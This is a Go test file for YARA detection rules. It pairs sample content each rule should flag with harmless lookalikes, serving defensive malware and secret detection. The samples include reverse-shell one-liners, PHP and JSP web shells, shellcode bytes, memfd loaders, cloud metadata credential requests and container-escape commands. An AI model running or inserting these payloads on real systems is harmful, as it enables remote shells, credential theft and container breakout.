//go:build yara && cgo

package rules

import (
	"encoding/base64"
	"slices"
	"strings"
	"testing"

	"github.com/ckexport/ckexport/pipeline/yara"
)

// examples has, for each rule, contents that it finds, and what looks like these
// and is ordinary.
var examples = map[string]struct{ found, ordinary []string }{
	"Stratum_Protocol": {
		found: []string{
			`{"id":1,"method":"mining.subscribe","params":[]}` + "\n" + `{"id":2,"method":"mining.authorize","params":["w.1","x"]}`,
			`{"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"4A","pass":"x","agent":"a/1"}}`,
		},
		ordinary: []string{`{"id":1,"method":"login","params":["user"]}`, `see "mining.subscribe" in the documentation`},
	},
	"Miner_Program": {
		found:    []string{"-o stratum+tcp://pool.example.org:3333 -u w", `{"donate-level": 1, "pools": [{"algo": "RandomX"}]}`},
		ordinary: []string{`{"pools": ["a"], "speed": 1}`, "stratum+ is a prefix", "xmrigger cryptonight"},
	},
	"PHP_Web_Shell": {
		found:    []string{`<?php @eval($_POST['x']);`, `<?php system( $_GET["c"] ); ?>`, `<?php eval(gzinflate(base64_decode('80jNycnX')));`, `$_GET['a']($_POST['b']);`},
		ordinary: []string{`<?php echo $_POST['x']; exec('ls');`, `evaluate($_POST['x'])`},
	},
	"JSP_Web_Shell": {
		found:    []string{`<% Runtime.getRuntime().exec(request.getParameter("c")); %>`},
		ordinary: []string{`<% String c = request.getParameter("c"); Runtime.getRuntime().exec("ls"); %>`},
	},
	"Reverse_Shell_Command": {
		found: []string{
			"bash -i >& /dev/tcp/192.0.2.1/4444 0>&1", "exec 5<>/dev/tcp/example.org/80", "nc -n -e /bin/sh 192.0.2.1 4444",
			"rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 192.0.2.1 4444 >/tmp/f",
			`import socket,os;s=socket.socket(2,1);s.connect(("192.0.2.1",4444));os.dup2(s.fileno(),0);import pty;pty.spawn("sh")`,
			"socat exec:'sh -i',pty,stderr tcp:192.0.2.1:4444",
		},
		ordinary: []string{"bash -i", "cat < /dev/tcp/127.0.0.1/22", "nc -z example.org 80", "mkfifo /tmp/f; cat /tmp/f"},
	},
	"UPX_Packed_ELF": {
		found:    []string{"\x7fELF.....UPX!\x0d\x16....$Info: This file is packed with the UPX executable packer http://upx.sf.net $"},
		ordinary: []string{"$Id: UPX is named once"},
	},
	"Memfd_Loader": {
		found:    []string{"my $fd = syscall(319, $name, 1);\nexec {\"/proc/$$/fd/$fd\"} 'x';", "fd = os.memfd_create('')\nos.execve('/proc/self/fd/%d' % fd, [], {})"},
		ordinary: []string{"fd = os.memfd_create('cache')", "exec('/proc/self/fd/3')"},
	},
	"Linux_Shellcode_Execve": {
		found: []string{
			"\x31\xf6\x48\xbb/bin//sh\x56\x53\x54\x5f\x6a\x3b\x58\x31\xd2\x0f\x05",
			"\x6a\x3b\x58\x99\x48\xbb/bin/sh\x00\x53\x54\x5f\x52\x57\x54\x5e\x0f\x05",
		},
		ordinary: []string{"/bin/sh\x00\x0f\x05", "\x48\xbb/bin//sh\x00\x00"},
	},
	"Linux_Shellcode_Connect": {
		found:    []string{"\x6a\x29\x58\x99\x6a\x02\x5f\x6a\x01\x5e\x0f\x05\x48\x97\x48\xb9\x02\x00\x11\x5c\x7f\x00\x00\x01\x51\x48\x89\xe6\x6a\x10\x5a\x6a\x2a\x58\x0f\x05"},
		ordinary: []string{"\x6a\x29\x58\x99\x0f\x05\xc3", "\x6a\x21\x58\x0f\x05\xc3"},
	},
	"LD_Preload_Rootkit": {
		found:    []string{"\x7fELF\x02\x01\x01\x00/etc/ld.so.preload\x00dlsym\x00readdir64\x00readdir\x00/proc/self/fd/%d\x00"},
		ordinary: []string{"/etc/ld.so.preload\x00dlsym\x00readdir\x00/proc/self/fd/%d\x00", "\x7fELF/etc/ld.so.preload\x00dlsym\x00"},
	},
	"Private_Key": {
		found:    []string{pem("RSA PRIVATE"), strings.ReplaceAll(pem("PRIVATE"), "\n", `\n`)},
		ordinary: []string{pem("PUBLIC"), "-----BEGIN PRIVATE KEY-----\n"},
	},
	"Access_Token": {
		found: []string{
			"AWS_ACCESS_KEY_ID=" + "AKIA" + "ABCDEFGHIJKLMNOP", "token " + "ghp" + "_" + strings.Repeat("aB3", 12), "glpat" + "-" + strings.Repeat("x", 20),
			"sk_live" + "_" + strings.Repeat("a1", 12), "AIza" + strings.Repeat("Ab-", 11) + "xy",
		},
		ordinary: []string{"AKIAABCDEFGHIJKLMNOPQ", "ghp_short", "sk_test_" + strings.Repeat("a1", 12)},
	},
	"Service_Account_Token": {
		found:    []string{jwt(`{"iss":"kubernetes/serviceaccount","sub":"system:serviceaccount:default:web"}`), jwt(`{"aud":["x"],"kubernetes.io":{},"sub":"system:serviceaccount:shop:app"}`)},
		ordinary: []string{jwt(`{"iss":"https://login.example.org","sub":"someone"}`), "system:serviceaccount:default:web"},
	},
	"Cloud_Metadata_Call": {
		found:    []string{"curl http://169.254.169.254/latest/meta-data/iam/security-credentials/role", "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token"},
		ordinary: []string{"169.254.169.254", "http://169.254.169.254/latest/meta-data/hostname"},
	},
	"Container_Escape_Tool": {
		found: []string{
			"echo 1 > /tmp/cgrp/x/notify_on_release\necho /cmd > /tmp/cgrp/release_agent\n", "echo '|/tmp/x %p' > /proc/sys/kernel/core_pattern",
			"nsenter -t 1 -m -u sh", "curl -s --unix-socket /var/run/docker.sock -d '{}' http://localhost/containers/create",
		},
		ordinary: []string{"cat /proc/sys/kernel/core_pattern", "nsenter -t 4711 -n ip addr", "/sys/fs/cgroup/release_agent\n"},
	},
}

func pem(kind string) string {
	return "-----BEGIN " + kind + " KEY-----\n" + strings.Repeat("MIIEowIBAAKCAQEA", 4) + "\n-----END " + kind + " KEY-----\n"
}

func jwt(claims string) string {
	encode := base64.RawURLEncoding.EncodeToString
	return encode([]byte(`{"alg":"RS256","kid":"0123456789"}`)) + "." + encode([]byte(claims)) + "." + strings.Repeat("Ab1_", 40)
}

func TestRules(t *testing.T) {
	compiled, err := yara.Compile(Files())
	if err != nil {
		t.Fatal(err)
	}
	defer compiled.Close()
	scan, err := compiled.NewScan()
	if err != nil {
		t.Fatal(err)
	}
	defer scan.Close()
	names := func(content string) (names []string) {
		scan.Begin()
		hits, _, err := scan.End([]byte(content), int64(len(content)), compiled.NewBudget(100))
		if err != nil {
			t.Fatal(err)
		}
		for _, h := range hits {
			names = append(names, h.Rule.Name)
		}
		return slices.Compact(names)
	}
	known := map[string]bool{}
	for _, rule := range compiled.Rules() {
		known[rule.Name] = true
		meta := map[string]any{}
		for _, m := range rule.Meta {
			meta[m.Name] = m.Value
		}
		source, _ := meta["source"].(string)
		if meta["description"] == nil || !strings.HasPrefix(source, "https://") || !slices.Contains([]any{"high", "medium", "low"}, meta["severity"]) {
			t.Errorf("%s: meta %v, want description, source and severity", rule.Name, rule.Meta)
		}
		e := examples[rule.Name]
		if len(e.found) == 0 || len(e.ordinary) == 0 {
			t.Errorf("%s has no examples", rule.Name)
		}
		for _, content := range e.found {
			if got := names(content); !slices.Contains(got, rule.Name) {
				t.Errorf("%s does not find %q", rule.Name, content)
			}
		}
		for _, content := range e.ordinary {
			if got := names(content); len(got) > 0 {
				t.Errorf("%v find %q", got, content)
			}
		}
	}
	for name := range examples {
		if !known[name] {
			t.Errorf("there is no rule %s", name)
		}
	}
}
